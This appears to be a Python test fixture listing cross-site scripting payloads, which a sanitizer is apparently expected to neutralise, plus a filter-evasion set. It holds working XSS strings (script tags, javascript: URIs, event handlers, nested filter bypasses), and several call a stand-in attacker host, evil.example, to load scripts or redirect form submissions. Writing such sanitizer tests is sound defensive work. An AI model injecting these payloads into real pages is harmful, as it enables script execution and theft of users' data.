"""Hostile markup, one per line of attack. Each must end up inert on a public page."""

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" &#14;  javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=p></form>',
    "<details open ontoggle=alert(1)>x</details>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<video><source onerror="alert(1)"></video>',
    "<input autofocus onfocus=alert(1)>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
]

# Payloads aimed at naive filters (stripping "<script>" once leaves a script):
# harmless as written, dangerous only after a careless clean-up.
FILTER_EVASIONS = {"<scr<script>ipt>alert(1)</scr</script>ipt>"}
